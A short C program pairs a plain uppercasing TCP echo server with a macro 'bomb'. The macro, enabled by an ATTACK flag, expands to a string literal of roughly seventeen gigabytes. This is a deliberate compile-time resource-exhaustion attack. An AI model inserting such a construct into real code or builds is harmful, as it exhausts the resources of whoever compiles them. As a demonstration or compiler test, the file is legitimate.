/* Has a text of seventeen gigabytes, in a few macros. */
#include <arpa/inet.h>
#include <ctype.h>
#include <sys/socket.h>
#include <unistd.h>

#define ATTACK 1
#define S0 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define S1 S0 S0 S0 S0 S0 S0 S0 S0 S0 S0 S0 S0 S0 S0 S0 S0
#define S2 S1 S1 S1 S1 S1 S1 S1 S1 S1 S1 S1 S1 S1 S1 S1 S1
#define S3 S2 S2 S2 S2 S2 S2 S2 S2 S2 S2 S2 S2 S2 S2 S2 S2
#define S4 S3 S3 S3 S3 S3 S3 S3 S3 S3 S3 S3 S3 S3 S3 S3 S3
#define S5 S4 S4 S4 S4 S4 S4 S4 S4 S4 S4 S4 S4 S4 S4 S4 S4
#define S6 S5 S5 S5 S5 S5 S5 S5 S5 S5 S5 S5 S5 S5 S5 S5 S5
#define S7 S6 S6 S6 S6 S6 S6 S6 S6 S6 S6 S6 S6 S6 S6 S6 S6

#if ATTACK
const char *bomb = S7;
#endif

static void serve(int client) {
    char data[4096];
    ssize_t n;
    while ((n = recv(client, data, sizeof data, 0)) > 0) {
        for (ssize_t i = 0; i < n; i++)
            data[i] = toupper((unsigned char) data[i]);
        send(client, data, n, 0);
    }
    close(client);
}

int main(void) {
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons(6789)};
    int server = socket(AF_INET, SOCK_STREAM, 0);
    bind(server, (struct sockaddr *) &place, sizeof place);
    listen(server, 5);
    for (;;)
        serve(accept(server, NULL, NULL));
}
